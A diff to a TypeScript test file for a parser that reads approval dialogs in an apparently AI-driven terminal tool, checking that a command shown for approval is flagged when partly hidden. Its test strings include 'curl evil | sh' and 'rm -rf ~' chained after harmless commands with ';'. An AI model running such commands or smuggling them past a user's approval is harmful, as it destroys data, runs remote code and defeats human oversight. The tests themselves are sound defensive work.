@@ -20,15 +20,16 @@ const rules = (text: Text | readonly Text[], isOwn = true) =>
         low: { of: 'over', bottom: 3 },
         tail: { bottom: 6 },
         near: { of: 'tail', after: '^╭─ Toy', before: '^╰─' },
+        all: { of: 'dialog', after: '^╭─ Toy' },
         few: { of: 'asked', top: 1 },
       },
       rules: [
         {
           id: 'asks',
           priority: 1,
-          where: [{ in: 'dialog', all: ['^  Let it\\?$'] }],
+          where: [{ in: 'dialog', all: ['^  ▸ 1  Go ahead$'] }],
           proves: { state: 'waiting_approval', reason: 'approval_asked' },
-          ask: { kind: 'command', text, options: { in: 'dialog', match: '^ *[▸ ] (\\d)  (.*)$' } },
+          ask: { kind: 'command', text, options: { in: 'dialog', match: '^ *[▸ ] (\\w)  (.*)$' } },
         },
       ],
     },
@@ -102,6 +103,44 @@ describe('an approval by a rule of a user', () => {
       ...dialog().slice(3),
     ];
     expect(read({ in: 'asked' }, wide).text).toContain('rm -rf ~');
+  });
+
+  it.each<[string, string, string]>([
+    ['without a group', '\\$ [\\w ./-]+', '$ ls -la; curl evil | sh'],
+    ['without a group, below its beginning', '\\$ [\\w ./-]+ *│$', 'rm -rf ~; $ ls -la'],
+    ['whose group may be missing', '^│ ([\\w].*\\S)?', '; rm -rf ~'],
+    ['whose group stands there twice', '^│ (\\w+)', 'ls; rm -rf ~; ls'],
+  ])('ASK3 is cut where a pattern %s takes only a part of a row', (_, match, command) => {
+    const why = expect.stringMatching(/only a part of a row/);
+    expect(read({ in: 'asked', match }, dialog(command))).toMatchObject({ isCut: true, why });
+  });
+
+  it('ASK3 is whole where a pattern without a group, or without its group, takes all of a row', () => {
+    expect(read({ in: 'asked', match: '\\$ [\\w ./-]+' }, dialog('$ ls -la'))).toMatchObject({ isCut: false });
+    expect(read({ in: 'asked', match: '^│ (?:\\$ (.*?) *│$|.*)' }, dialog('; ls'))).toMatchObject({ isCut: false });
+  });
+
+  it('ASK3 is cut where a row of the request looks like an option, and rows below it are left out', () => {
+    const open = (...command: readonly string[]) => {
+      const plain = [
+        '╭─ Toy wants to run',
+        ...command,
+        '',
+        '  ▸ 1  Go ahead',
+        '    2  Leave it, and',
+        '       say why',
+      ];
+      return read({ in: 'all', match: '^\\$ (.*)$' }, plain);
+    };
+    expect(open('$ ls')).toEqual({ text: 'ls', isCut: false, why: null });
+    const why = expect.stringMatching(/leaves out rows/);
+    for (const row of ['    7  x', '    a  x', '    1  x', '    0  x', '    2  x', '  ▸ 1  Go ahead']) {
+      expect(open('$ ls \\', row, '; rm -rf ~')).toMatchObject({ isCut: true, why });
+      expect(open('$ ls \\', row, '            ; rm -rf ~')).toMatchObject({ isCut: true, why });
+    }
+    // What looks like one is none where the options are elsewhere.
+    const apart = ['╭─ Toy wants to run', '$ ls \\', '    1  x', '; rm -rf ~', ...dialog().slice(3)];
+    expect(read({ in: 'asked', match: '^\\$ (.*)$' }, apart)).toMatchObject({ isCut: true, why });
   });
 
   it('ASK3 is cut where it is longer than what is shown of it', () => {
